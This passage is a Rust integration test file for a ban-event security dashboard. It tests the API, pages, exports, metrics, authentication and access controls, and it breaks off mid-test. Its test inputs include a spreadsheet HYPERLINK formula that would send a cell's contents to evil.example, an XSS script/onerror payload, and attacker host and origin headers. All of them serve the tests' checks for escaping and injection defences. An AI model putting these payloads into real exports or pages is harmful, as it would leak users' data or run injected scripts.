//! The API, pages, exports and metrics of an in-process server on port 0.

use aegis_core::decision::{AgentReport, Decision};
use std::net::{IpAddr, TcpListener};
use std::sync::Arc;

use aegis_core::{connect, parse_ip, BanEvent, EventKind, Geo, Storage, StorageUrl, WebSettings};
use aegis_web::{hash_password, Auth, Dashboard};
use chrono::{Duration, Utc};
use reqwest::StatusCode;
use serde_json::Value;

/// A user name a spreadsheet would run as a formula.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";

/// Attacker-controlled text as it could reach every stored field.
const XSS: &str = "<script>window.__xss=1</script><img src=x onerror=alert(1)>\"'&";

struct Server {
    base: String,
    store: Arc<dyn Storage>,
    http: reqwest::Client,
}

impl Server {
    async fn start(auth: Auth) -> Server {
        let store = connect(&StorageUrl::parse("sqlite::memory:").unwrap())
            .await
            .unwrap();
        Server::on(store, auth)
    }

    fn on(store: Arc<dyn Storage>, auth: Auth) -> Server {
        Server::sharing(store, auth, None)
    }

    fn sharing(
        store: Arc<dyn Storage>,
        auth: Auth,
        share: Option<aegis_core::share::SharePolicy>,
    ) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let dashboard = Dashboard {
            storage: store.clone(),
            tz: "Europe/Berlin".parse().unwrap(),
            auth,
            demo: false,
            share,
        };
        let server = aegis_web::serve(dashboard, listener).unwrap();
        actix_web::rt::spawn(server);
        Server {
            base,
            store,
            http: reqwest::Client::new(),
        }
    }

    async fn open() -> Server {
        Server::start(Auth::default()).await
    }

    async fn get(&self, path: &str) -> reqwest::Response {
        self.http
            .get(format!("{}{path}", self.base))
            .send()
            .await
            .unwrap()
    }

    async fn json(&self, path: &str) -> (StatusCode, Value) {
        let r = self.get(path).await;
        let status = r.status();
        let body = r.text().await.unwrap();
        let value = serde_json::from_str(&body)
            .unwrap_or_else(|e| panic!("{path}: not JSON ({e}): {body}"));
        (status, value)
    }

    async fn text(&self, path: &str) -> (StatusCode, String) {
        let r = self.get(path).await;
        (r.status(), r.text().await.unwrap())
    }
}

fn ban(ip: &str, jail: &str, host: &str, ago: Duration) -> BanEvent {
    let mut e = BanEvent::new(
        EventKind::Ban,
        parse_ip(ip).unwrap(),
        jail,
        host,
        Utc::now() - ago,
    )
    .unwrap();
    e.failures = Some(5);
    e.bantime = Some(600);
    e
}

fn located(mut e: BanEvent, country: &str, city: &str, lat: f64, lon: f64) -> BanEvent {
    e.geo = Some(Geo {
        country: Some(country.into()),
        city: Some(city.into()),
        latitude: Some(lat),
        longitude: Some(lon),
        asn: Some(64_500),
        as_org: Some("Example AS".into()),
    });
    e
}

/// Three addresses: one in CN with three bans, one in DE, one in the US.
async fn seed(store: &dyn Storage) {
    let events = vec![
        located(
            ban("198.51.100.7", "sshd", "web1", Duration::hours(1)),
            "CN",
            "Beijing",
            39.9,
            116.4,
        ),
        located(
            ban("198.51.100.7", "sshd", "web2", Duration::hours(2)),
            "CN",
            "Beijing",
            39.9,
            116.4,
        ),
        located(
            ban("198.51.100.7", "nginx", "web1", Duration::hours(30)),
            "CN",
            "Beijing",
            39.9,
            116.4,
        ),
        located(
            ban("198.51.100.9", "sshd", "web1", Duration::hours(3)),
            "CN",
            "Beijing",
            39.9,
            116.4,
        ),
        located(
            ban("203.0.113.5", "postfix", "mail", Duration::days(3)),
            "DE",
            "Berlin",
            52.5,
            13.4,
        ),
        located(
            ban("2001:db8::1", "sshd", "web1", Duration::days(40)),
            "US",
            "Ashburn",
            39.0,
            -77.5,
        ),
    ];
    store.record_batch(&events).await.unwrap();
}

#[actix_web::test]
async fn figures_match_the_store() {
    let s = Server::open().await;
    seed(s.store.as_ref()).await;

    let (status, summary) = s.json("/api/v1/summary?range=24h").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(summary["bans"], 3);
    assert_eq!(summary["unique_ips"], 2);
    assert_eq!(summary["previous_bans"], 1, "the ban 30 hours ago");
    let (_, week) = s.json("/api/v1/summary?range=7d&jail=sshd").await;
    assert_eq!(week["bans"], 3);

    let (_, top) = s.json("/api/v1/top?by=ip&range=7d").await;
    assert_eq!(top["entries"][0]["ip"], "198.51.100.7");
    assert_eq!(top["entries"][0]["bans"], 3);
    let (_, countries) = s.json("/api/v1/top?by=country&range=7d").await;
    assert_eq!(countries["entries"][0]["key"], "CN");
    assert_eq!(countries["entries"][0]["bans"], 4);

    let (_, daily) = s.json("/api/v1/daily?days=7").await;
    let days = daily["days"].as_array().unwrap();
    assert_eq!(days.len(), 7);
    let total: u64 = days.iter().map(|d| d["bans"].as_u64().unwrap()).sum();
    assert_eq!(
        total, 5,
        "every ban of the last 7 days, zero-filled days included"
    );
    assert_eq!(daily["tz"], "Europe/Berlin");

    let (_, events) = s.json("/api/v1/events?country=CN&limit=2").await;
    assert_eq!(events["total"], 4);
    assert_eq!(events["events"].as_array().unwrap().len(), 2);
    let (_, events) = s
        .json("/api/v1/events?cidr=198.51.100.0/24&jail=sshd&order=asc")
        .await;
    assert_eq!(events["total"], 3);

    let (_, ip) = s.json("/api/v1/ip/198.51.100.7").await;
    assert_eq!(ip["bans"], 3);
    assert_eq!(ip["jails"], serde_json::json!(["nginx", "sshd"]));
    assert_eq!(ip["neighbours"][0]["ip"], "198.51.100.9");

    let (_, map) = s.json("/api/v1/map?range=7d").await;
    assert_eq!(map["countries"]["CN"], 4);
    assert_eq!(map["countries"]["DE"], 1);
    assert!(
        map["countries"].get("US").is_none(),
        "40 days ago is outside 7 days"
    );
    assert_eq!(map["points"][0]["label"], "Beijing, CN");
    assert_eq!(map["points"][0]["bans"], 4);
}

/// The same figures from a MongoDB store (`AEGIS_TEST_MONGODB_URI`, started by
/// `scripts/test`): the dashboard only knows the `Storage` trait.
#[actix_web::test]
async fn figures_match_a_mongodb_store() {
    let db = aegis_testkit::TestStore::mongodb().await;
    let s = Server::on(db.store.clone(), Auth::default());
    seed(s.store.as_ref()).await;
    let (_, summary) = s.json("/api/v1/summary?range=24h").await;
    assert_eq!(
        (summary["bans"].as_u64(), summary["previous_bans"].as_u64()),
        (Some(3), Some(1))
    );
    let (_, top) = s.json("/api/v1/top?by=ip&range=7d").await;
    assert_eq!(top["entries"][0]["ip"], "198.51.100.7");
    let (_, map) = s.json("/api/v1/map?range=7d").await;
    assert_eq!(map["countries"]["CN"], 4);
    let (_, events) = s
        .json("/api/v1/events?cidr=198.51.100.0/24&jail=sshd")
        .await;
    assert_eq!(events["total"], 3);
    for path in ["/", "/ip/198.51.100.7", "/events?country=CN", "/jail/sshd"] {
        let (status, html) = s.text(path).await;
        assert_eq!(status, StatusCode::OK, "{path}: {html}");
    }
    let (_, html) = s.text("/").await;
    assert!(html.contains(r#"data-figure="bans-24h">3<"#));
    let csv = s.get("/events.csv?country=CN").await.text().await.unwrap();
    assert_eq!(csv.lines().count(), 5, "a header and four events: {csv}");
}

#[actix_web::test]
async fn pages_show_the_figures() {
    let s = Server::open().await;
    seed(s.store.as_ref()).await;
    for path in [
        "/",
        "/?range=7d&days=90",
        "/country/CN",
        "/jail/sshd",
        "/host/web1",
        "/events",
        "/ip/198.51.100.7",
    ] {
        let (status, html) = s.text(path).await;
        assert_eq!(status, StatusCode::OK, "{path}: {html}");
        assert!(html.contains("</html>"), "{path}");
        // Countries are their codes, as text: emoji flags render as two boxes
        // where no emoji font is installed.
        assert!(
            !html
                .chars()
                .any(|c| ('\u{1F1E6}'..='\u{1F1FF}').contains(&c)),
            "{path} shows a regional-indicator flag"
        );
    }
    let (_, html) = s.text("/").await;
    assert!(html.contains(r#"data-figure="bans-24h">3<"#), "{html}");
    assert!(html.contains("198.51.100.7"));
    let (_, html) = s.text("/country/DE").await;
    assert!(html.contains(r#"data-figure="bans-7d">1<"#));
    assert!(
        !html.contains("198.51.100.7"),
        "a country page shows only that country"
    );
    let (_, html) = s.text("/events?jail=postfix").await;
    assert!(html.contains("<strong>1</strong> event"), "{html}");
    let (status, html) = s.text("/ip/192.0.2.99").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(html.contains("Nothing is stored for 192.0.2.99"));
}

/// An address's page: its events 50 at a time, newest first, under a timeline
/// of its bans per day by jail and host; the JSON keeps its newest 200.
#[actix_web::test]
async fn an_address_page_pages_its_events_under_its_timeline() {
    let s = Server::open().await;
    let ip = "203.0.113.50";
    let events: Vec<BanEvent> = (0..120)
        .map(|i| {
            let host = if i % 3 == 0 { "web2" } else { "web1" };
            ban(ip, "sshd", host, Duration::hours(i * 7 + 1))
        })
        .collect();
    s.store.record_batch(&events).await.unwrap();
    let rows = |html: &str| html.matches(&format!(r#"class="ip">{ip}</a>"#)).count();

    let (status, first) = s.text(&format!("/ip/{ip}")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        first.contains("Events 1–50 of 120, newest first"),
        "{first}"
    );
    assert_eq!(rows(&first), 50);
    assert!(first.contains(r##"<a rel="next" href="?page=2#events">"##));
    assert!(!first.contains(r#"rel="prev""#));
    let timeline = first.find(r#"id="timeline""#).expect("a timeline");
    assert!(timeline < first.find(r#"id="events""#).unwrap());
    // Tera writes the zone's slash as an entity.
    assert!(first.contains("Bans per day (Europe&#x2F;Berlin), by jail and host"));
    let lanes: Vec<&str> = first
        .split(r#"<g class="lane">"#)
        .skip(1)
        .map(|lane| {
            lane.split("<title>")
                .next()
                .unwrap()
                .rsplit('>')
                .next()
                .unwrap()
        })
        .collect();
    assert_eq!(lanes, ["sshd on web1", "sshd on web2"]);
    let drawn: u64 = first
        .split(r#"data-bans=""#)
        .skip(1)
        .map(|n| n.split('"').next().unwrap().parse::<u64>().unwrap())
        .sum();
    assert_eq!(drawn, 120, "every ban is in the timeline");

    let (_, last) = s.text(&format!("/ip/{ip}?page=3")).await;
    assert!(last.contains("Events 101–120 of 120"), "{last}");
    assert_eq!(rows(&last), 20);
    assert!(last.contains(r##"<a rel="prev" href="?page=2#events">"##));
    assert!(!last.contains(r#"rel="next""#));
    let (status, past) = s.text(&format!("/ip/{ip}?page=4")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(past.contains("No events on this page (of 120)"));
    for bad in ["page=0", "page=x", "pages=2"] {
        let (status, html) = s.text(&format!("/ip/{ip}?{bad}")).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{bad}: {html}");
    }

    let (_, detail) = s.json(&format!("/api/v1/ip/{ip}")).await;
    assert_eq!(detail["events"].as_array().unwrap().len(), 120);
    assert_eq!(detail["events_total"], 120);
    assert!(
        detail.get("timeline").is_none(),
        "layout stays out of the API"
    );
}

#[actix_web::test]
async fn stored_markup_is_escaped_everywhere() {
    let s = Server::open().await;
    let ip = "192.0.2.66";
    let mut e = ban(ip, XSS, XSS, Duration::minutes(5));
    e.matches = vec![XSS.into()];
    e.user = Some(XSS.into());
    e.port = Some("<b>80</b>".into());
    e.protocol = Some("<i>tcp</i>".into());
    e.geo = Some(Geo {
        country: Some("NL".into()),
        city: Some(XSS.into()),
        latitude: Some(52.4),
        longitude: Some(4.9),
        asn: Some(1),
        as_org: Some(XSS.into()),
    });
    s.store.record(&e).await.unwrap();
    let encoded: String = url::form_urlencoded::byte_serialize(XSS.as_bytes()).collect();
    let pages = [
        "/".to_owned(),
        format!("/ip/{ip}"),
        "/events".into(),
        format!("/events?jail={encoded}"),
        format!("/jail/{}", encoded.replace('+', "%20")),
        format!("/host/{}", encoded.replace('+', "%20")),
    ];
    for path in &pages {
        let (status, html) = s.text(path).await;
        assert_eq!(status, StatusCode::OK, "{path}: {html}");
        assert!(
            !html.contains("<script>window"),
            "{path} let a script through"
        );
        assert!(!html.contains("<img src=x"), "{path} let markup through");
    }
    let (_, html) = s.text(&format!("/ip/{ip}")).await;
    assert!(html.contains("&lt;script&gt;window.__xss=1&lt;&#x2F;script&gt;"));
    // JSON keeps the exact text for programs.
    let (_, detail) = s.json(&format!("/api/v1/ip/{ip}")).await;
    assert_eq!(detail["matches"][0], XSS);
    assert_eq!(detail["events"][0]["jail"], XSS);
    // A search by that name finds it.
    let (_, found) = s.json(&format!("/api/v1/events?host={encoded}")).await;
    assert_eq!(found["total"], 1);
}

#[actix_web::test]
async fn bad_parameters_get_clear_errors() {
    let s = Server::open().await;
    seed(s.store.as_ref()).await;
    let cases = [
        ("/api/v1/events?ip=999.1.1.1", "999.1.1.1"),
        ("/api/v1/events?ip=1.1.1.1&ip=2.2.2.2", "more than once"),
        ("/api/v1/events?cidr=10.0.0.0/99", "cidr"),
        ("/api/v1/events?since=yesterday", "yesterday"),
        ("/api/v1/events?until=2026-13-45", "2026-13-45"),
        ("/api/v1/events?country=ZZZ", "ZZZ"),
        ("/api/v1/events?kind=kick", "ban or unban"),
        ("/api/v1/events?limit=0", "limit"),
        ("/api/v1/events?limit=abc", "limit"),
        ("/api/v1/events?limit=10001", "10000"),
        ("/api/v1/events?offset=-1", "offset"),
        ("/api/v1/events?order=sideways", "asc or desc"),
        ("/api/v1/events?total=maybe", "true or false"),
        ("/api/v1/events?jail=a%00b", "control"),
        ("/api/v1/events?colour=red", "unknown parameter \"colour\""),
        ("/api/v1/top?by=planet", "planet"),
        ("/api/v1/top?limit=5000", "limit"),
        ("/api/v1/summary?range=0h", "range"),
        ("/api/v1/summary?range=forever", "forever"),
        ("/api/v1/daily?days=0", "days"),
        ("/api/v1/daily?jail=sshd&host=web1", "at most one"),
        ("/api/v1/ip/not-an-ip", "not-an-ip"),
        ("/blocklist.txt?min_bans=0", "min_bans"),
        ("/events.csv?ip=1.2.3", "1.2.3"),
    ];
    for (path, says) in cases {
        let r = s.get(path).await;
        let status = r.status();
        let body = r.text().await.unwrap();
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {body}");
        let error: Value = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{path}: {body}"));
        let message = error["error"].as_str().unwrap();
        assert!(
            message.contains(says),
            "{path}: {message:?} should mention {says:?}"
        );
    }
    let (status, body) = s.json("/api/v1/ip/192.0.2.1").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(body["error"].as_str().unwrap().contains("192.0.2.1"));
    let (status, _) = s.json("/api/v1/nothing").await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // Pages answer in HTML, keeping the form.
    let (status, html) = s.text("/events?country=ZZZ&jail=sshd").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(html.contains("role=\"alert\"") && html.contains("ZZZ"));
    assert!(
        html.contains("value=\"sshd\""),
        "the form keeps what was typed"
    );
    for path in [
        "/?range=never",
        "/ip/nope",
        "/country/Germany",
        "/nowhere",
        "/?x=1",
    ] {
        let (status, html) = s.text(path).await;
        assert!(status.is_client_error(), "{path}: {status}");
        assert!(html.starts_with("<!doctype html>"), "{path}: {html}");
    }
}

#[actix_web::test]
async fn exports_stream_every_matching_event() {
    let s = Server::open().await;
    // More than one export page (10,000 rows).
    let start = Utc::now() - Duration::days(10);
    let events: Vec<BanEvent> = (0..12_345u32)
        .map(|i| {
            let ip = IpAddr::from([10, (i >> 16) as u8, (i >> 8) as u8, i as u8]);
            let mut e = BanEvent::new(
                EventKind::Ban,
                ip,
                if i % 3 == 0 { "nginx" } else { "sshd" },
                "web1",
                start + Duration::seconds(i64::from(i) * 60),
            )
            .unwrap();
            e.matches = vec![format!("line, with \"quotes\"\nand a newline {i}")];
            if i == 0 {
                e.user = Some(FORMULA.into());
            }
            e
        })
        .collect();
    s.store.record_batch(&events).await.unwrap();

    let r = s.get("/events.csv").await;
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .contains("attachment"));
    let body = r.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(reader.headers().unwrap().get(0), Some("id"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 12_345);
    assert!(rows.iter().all(|r| r[19].contains("\"quotes\"\nand")));
    let first = rows.iter().find(|r| &r[4] == "10.0.0.0").unwrap();
    assert_eq!(
        &first[12],
        format!("'{FORMULA}"),
        "a formula is text to a spreadsheet"
    );
    let ids: std::collections::HashSet<&str> = rows.iter().map(|r| r.get(0).unwrap()).collect();
    assert_eq!(ids.len(), 12_345, "no row twice across pages");

    let r = s.get("/events.json?jail=nginx").await;
    let json: Vec<Value> = serde_json::from_str(&r.text().await.unwrap()).unwrap();
    assert_eq!(json.len(), 4_115);
    assert!(json.iter().all(|e| e["jail"] == "nginx"));

    let (status, list) = s.text("/blocklist.txt?range=30d&limit=5").await;
    assert_eq!(status, StatusCode::OK);
    let addresses: Vec<&str> = list.lines().filter(|l| !l.starts_with('#')).collect();
    assert_eq!(addresses.len(), 5);
    assert!(addresses.iter().all(|a| a.parse::<IpAddr>().is_ok()));
    let (_, none) = s.text("/blocklist.txt?min_bans=2").await;
    assert_eq!(none.lines().filter(|l| !l.starts_with('#')).count(), 0);
}

#[actix_web::test]
async fn headers_health_metrics_and_assets() {
    let s = Server::open().await;
    seed(s.store.as_ref()).await;
    let r = s.get("/").await;
    let h = r.headers();
    let csp = h["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"));
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(h["x-frame-options"], "DENY");
    assert!(h["server-timing"].to_str().unwrap().starts_with("app;dur="));

    let (status, health) = s.json("/health").await;
    assert_eq!(
        (status, health["status"].as_str()),
        (StatusCode::OK, Some("ok"))
    );

    s.get("/ip/198.51.100.7").await;
    s.get("/ip/198.51.100.9").await;
    let (status, metrics) = s.text("/metrics").await;
    assert_eq!(status, StatusCode::OK);
    assert!(metrics.contains("aegis_events_stored 6\n"), "{metrics}");
    assert!(metrics.contains("aegis_bans_24h 3\n"));
    assert!(metrics.contains("aegis_bans_24h_by_jail{jail=\"sshd\"} 3\n"));
    assert!(metrics.contains("aegis_bans_24h_by_host{host=\"web1\"} 2\n"));
    assert!(metrics.contains("aegis_last_event_timestamp_seconds "));
    assert!(
        metrics.contains("aegis_http_requests_total{route=\"/ip/{ip}\",status=\"200\"} 2\n"),
        "{metrics}"
    );

    for asset in [
        "app.css",
        "app.js",
        "uPlot.iife.min.js",
        "jsvectormap.min.js",
        "jsvectormap-world.js",
        "favicon.svg",
    ] {
        let r = s.get(&format!("/static/{asset}")).await;
        assert_eq!(r.status(), StatusCode::OK, "{asset}");
        let etag = r.headers()["etag"].clone();
        let again = s
            .http
            .get(format!("{}/static/{asset}", s.base))
            .header("If-None-Match", etag)
            .send()
            .await
            .unwrap();
        assert_eq!(again.status(), StatusCode::NOT_MODIFIED, "{asset}");
    }
    assert_eq!(
        s.get("/static/nothing.js").await.status(),
        StatusCode::NOT_FOUND
    );
}

#[actix_web::test]
async fn credentials_guard_everything_but_health() {
    let hash = hash_password("correct horse battery").unwrap();
    let auth = Auth::from_settings(&WebSettings {
        token: Some("0123456789abcdef-token".into()),
        user: Some("admin".into()),
        password_hash: Some(hash.into()),
        ..WebSettings::default()
    })
    .unwrap();
    let s = Server::start(auth).await;
    let url = |p: &str| format!("{}{p}", s.base);
    for path in [
        "/",
        "/api/v1/summary",
        "/metrics",
        "/events.csv",
        "/static/app.css",
    ] {
        let r = s.get(path).await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "{path}");
        assert!(r.headers()["www-authenticate"]
            .to_str()
            .unwrap()
            .starts_with("Basic"));
    }
    assert_eq!(s.get("/health").await.status(), StatusCode::OK);
    let with = |req: reqwest::RequestBuilder| async { req.send().await.unwrap().status() };
    assert_eq!(
        with(s.http.get(url("/")).bearer_auth("0123456789abcdef-token")).await,
        StatusCode::OK
    );
    assert_eq!(
        with(s.http.get(url("/")).bearer_auth("wrong")).await,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        with(
            s.http
                .get(url("/"))
                .basic_auth("anyone", Some("0123456789abcdef-token"))
        )
        .await,
        StatusCode::OK
    );
    for _ in 0..2 {
        assert_eq!(
            with(
                s.http
                    .get(url("/metrics"))
                    .basic_auth("admin", Some("correct horse battery"))
            )
            .await,
            StatusCode::OK
        );
    }
    assert_eq!(
        with(
            s.http
                .get(url("/"))
                .basic_auth("admin", Some("wrong horse"))
        )
        .await,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        with(
            s.http
                .get(url("/"))
                .basic_auth("root", Some("correct horse battery"))
        )
        .await,
        StatusCode::UNAUTHORIZED
    );

    // Configuration mistakes are refused with the fix.
    let bad = |w: WebSettings| Auth::from_settings(&w).err().unwrap().to_string();
    assert!(bad(WebSettings {
        token: Some("short".into()),
        ..Default::default()
    })
    .contains("16"));
    assert!(bad(WebSettings {
        user: Some("admin".into()),
        password_hash: Some("plaintext".into()),
        ..Default::default()
    })
    .contains("aegis-web hash-password"));
    assert!(bad(WebSettings {
        user: Some("admin".into()),
        ..Default::default()
    })
    .contains("both"));
}

#[actix_web::test]
async fn answers_are_fresh_on_request_and_at_most_a_second_old() {
    let s = Server::open().await;
    s.store
        .record(&ban("198.51.100.1", "sshd", "web1", Duration::minutes(1)))
        .await
        .unwrap();
    let (_, first) = s.json("/api/v1/summary?range=24h").await;
    assert_eq!(first["bans"], 1);
    s.store
        .record(&ban("198.51.100.2", "sshd", "web1", Duration::minutes(1)))
        .await
        .unwrap();
    let fresh = s
        .http
        .get(format!("{}/api/v1/summary?range=24h", s.base))
        .header("Cache-Control", "no-cache")
        .send()
        .await
        .unwrap();
    let fresh: Value = fresh.json().await.unwrap();
    assert_eq!(fresh["bans"], 2, "no-cache asks the store");
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let (_, later) = s.json("/api/v1/summary?range=24h").await;
    assert_eq!(later["bans"], 2, "a second later the answer is new");
}

#[actix_web::test]
async fn an_open_dashboard_answers_only_to_its_own_names() {
    let s = Server::start(
        Auth::from_settings(&WebSettings {
            public_url: Some("https://aegis.example.org/".into()),
            ..WebSettings::default()
        })
        .unwrap(),
    )
    .await;
    let with_host = |host: &'static str| {
        let req = s.http.get(format!("{}/api/v1/summary", s.base));
        async move { req.header("Host", host).send().await.unwrap().status() }
    };
    for rebound in [
        "attacker.example",
        "attacker.example:8080",
        "127.0.0.1.nip.io",
    ] {
        assert_eq!(
            with_host(rebound).await,
            StatusCode::MISDIRECTED_REQUEST,
            "{rebound}"
        );
    }
    for own in [
        "localhost:8080",
        "127.0.0.1",
        "[::1]:8080",
        "aegis.example.org",
        "AEGIS.example.org:443",
    ] {
        assert_eq!(with_host(own).await, StatusCode::OK, "{own}");
    }
}

#[actix_web::test]
async fn head_answers_every_get_route() {
    let s = Server::open().await;
    seed(s.store.as_ref()).await;
    for path in [
        "/health",
        "/",
        "/api/v1/summary",
        "/events.csv",
        "/static/app.css",
        "/metrics",
    ] {
        let r = s
            .http
            .head(format!("{}{path}", s.base))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{path}");
        assert!(r.text().await.unwrap().is_empty(), "{path}: no body");
    }
}

#[actix_web::test]
async fn failed_attempts_are_told_to_wait() {
    let auth = Auth::from_settings(&WebSettings {
        token: Some("0123456789abcdef-token".into()),
        ..WebSettings::default()
    })
    .unwrap();
    let s = Server::start(auth).await;
    let attempt = |token: &'static str| {
        let req = s
            .http
            .get(format!("{}/api/v1/summary", s.base))
            .bearer_auth(token);
        async move { req.send().await.unwrap() }
    };
    for _ in 0..10 {
        assert_eq!(attempt("guess").await.status(), StatusCode::UNAUTHORIZED);
    }
    let refused = attempt("another guess").await;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait: u64 = refused.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    // The guesser shares the address with the admin (a proxy): the token still works.
    assert_eq!(
        attempt("0123456789abcdef-token").await.status(),
        StatusCode::OK
    );
}

/// A store that is down, with an error that names what only the admin may see.
#[derive(Debug)]
struct Down;

fn down<T>() -> aegis_core::Result<T> {
    Err(aegis_core::Error::Unavailable(
        "/srv/secret/aegis.db: disk I/O error".into(),
    ))
}

#[async_trait::async_trait]
impl Storage for Down {
    async fn record_batch(&self, _: &[BanEvent]) -> aegis_core::Result<aegis_core::BatchOutcome> {
        down()
    }
    async fn events(
        &self,
        _: &aegis_core::EventFilter,
        _: aegis_core::Page,
    ) -> aegis_core::Result<Vec<aegis_core::StoredEvent>> {
        down()
    }
    async fn count_events(&self, _: &aegis_core::EventFilter) -> aegis_core::Result<u64> {
        down()
    }
    async fn summary(&self, _: &aegis_core::StatsQuery) -> aegis_core::Result<aegis_core::Summary> {
        down()
    }
    async fn bans_per_day(
        &self,
        _: &aegis_core::StatsQuery,
        _: aegis_core::Tz,
    ) -> aegis_core::Result<Vec<aegis_core::DayCount>> {
        down()
    }
    async fn top_offenders(
        &self,
        _: &aegis_core::StatsQuery,
        _: u32,
    ) -> aegis_core::Result<Vec<aegis_core::Offender>> {
        down()
    }
    async fn top(
        &self,
        _: &aegis_core::StatsQuery,
        _: aegis_core::TopBy,
        _: u32,
    ) -> aegis_core::Result<Vec<aegis_core::TopEntry>> {
        down()
    }
    async fn ip_history(&self, _: IpAddr) -> aegis_core::Result<Vec<aegis_core::StoredEvent>> {
        down()
    }
    async fn prune(&self, _: chrono::DateTime<Utc>) -> aegis_core::Result<u64> {
        down()
    }
    async fn set_geo(&self, _: IpAddr, _: &Geo) -> aegis_core::Result<u64> {
        down()
    }
    async fn distinct_ips(&self, _: Option<IpAddr>, _: u32) -> aegis_core::Result<Vec<IpAddr>> {
        down()
    }
    fn geo_cache(&self) -> &dyn aegis_core::GeoCache {
        self
    }
    fn decision_log(&self) -> &dyn aegis_core::DecisionLog {
        self
    }
    async fn state(&self, _: &str) -> aegis_core::Result<Option<Value>> {
        down()
    }
    async fn set_state(&self, _: &str, _: &Value) -> aegis_core::Result<()> {
        down()
    }
}

#[async_trait::async_trait]
impl aegis_core::DecisionLog for Down {
    async fn decide(&self, _: &Decision) -> aegis_core::Result<Decision> {
        down()
    }
    async fn after(&self, _: u64, _: u32) -> aegis_core::Result<Vec<Decision>> {
        down()
    }
    async fn on(&self, _: IpAddr) -> aegis_core::Result<Vec<Decision>> {
        down()
    }
    async fn made_from(&self, _: &str, _: chrono::DateTime<Utc>) -> aegis_core::Result<u64> {
        down()
    }
    async fn record_applied(&self, _: &[aegis_core::decision::Applied]) -> aegis_core::Result<()> {
        down()
    }
    async fn applied(&self, _: &[u64]) -> aegis_core::Result<Vec<aegis_core::decision::Applied>> {
        down()
    }
    async fn report_agent(&self, _: &AgentReport) -> aegis_core::Result<()> {
        down()
    }
    async fn agents(&self) -> aegis_core::Result<Vec<AgentReport>> {
        down()
    }
}

#[async_trait::async_trait]
impl aegis_core::GeoCache for Down {
    async fn cached_geo(&self, _: &[IpAddr]) -> aegis_core::Result<Vec<(IpAddr, Option<Geo>)>> {
        down()
    }
    async fn cache_geo(&self, _: &[(IpAddr, Option<Geo>)]) -> aegis_core::Result<()> {
        down()
    }
}

#[actix_web::test]
async fn health_says_why_only_to_the_admin() {
    let open = Server::on(Arc::new(Down), Auth::default());
    let (status, body) = open.json("/health").await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(body, serde_json::json!({ "status": "unavailable" }));

    let guarded = Server::on(
        Arc::new(Down),
        Auth::from_settings(&WebSettings {
            token: Some("0123456789abcdef-token".into()),
            ..WebSettings::default()
        })
        .unwrap(),
    );
    let (_, anonymous) = guarded.json("/health").await;
    assert!(
        !anonymous.to_string().contains("/srv/secret"),
        "{anonymous}"
    );
    let admin = guarded
        .http
        .get(format!("{}/health", guarded.base))
        .bearer_auth("0123456789abcdef-token")
        .send()
        .await
        .unwrap();
    assert!(admin.text().await.unwrap().contains("/srv/secret"));
}

const READ: &str = "0123456789abcdef-read";
const WRITE: &str = "0123456789abcdef-write";

/// A dashboard where people may decide: a read token, a write token and a login.
async fn deciding() -> Server {
    let auth = Auth::from_settings(&WebSettings {
        token: Some(READ.into()),
        write_token: Some(WRITE.into()),
        user: Some("alice".into()),
        password_hash: Some(hash_password("correct horse battery").unwrap().into()),
        actions: true,
        ..WebSettings::default()
    })
    .unwrap();
    let s = Server::start(auth).await;
    s.store
        .record(&ban("45.155.205.7", "sshd", "web1", Duration::minutes(5)))
        .await
        .unwrap();
    s
}

#[actix_web::test]
async fn decisions_need_actions_and_write_credentials() {
    let url = |s: &Server, p: &str| format!("{}{p}", s.base);
    let ban = serde_json::json!({ "action": "ban", "target": "45.155.205.7", "for": "1h", "reason": "ssh" });

    // Off unless turned on, and never without write credentials.
    let off = Server::start(
        Auth::from_settings(&WebSettings {
            token: Some(READ.into()),
            ..WebSettings::default()
        })
        .unwrap(),
    )
    .await;
    let r = off
        .http
        .post(url(&off, "/api/v1/decisions"))
        .bearer_auth(READ)
        .json(&ban)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert!(r.text().await.unwrap().contains("[web] actions = true"));
    let err = Auth::from_settings(&WebSettings {
        actions: true,
        ..WebSettings::default()
    })
    .err()
    .unwrap()
    .to_string();
    assert!(err.contains("actions needs credentials"), "{err}");

    let s = deciding().await;
    let post = |token: &str| {
        s.http
            .post(url(&s, "/api/v1/decisions"))
            .bearer_auth(token.to_owned())
    };
    // The read token reads and never writes.
    let r = post(READ).json(&ban).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert!(r.text().await.unwrap().contains("only reads"));
    // Another site's page cannot write, whatever the browser sends along.
    let r = post(WRITE)
        .header("Origin", "http://evil.example")
        .json(&ban)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
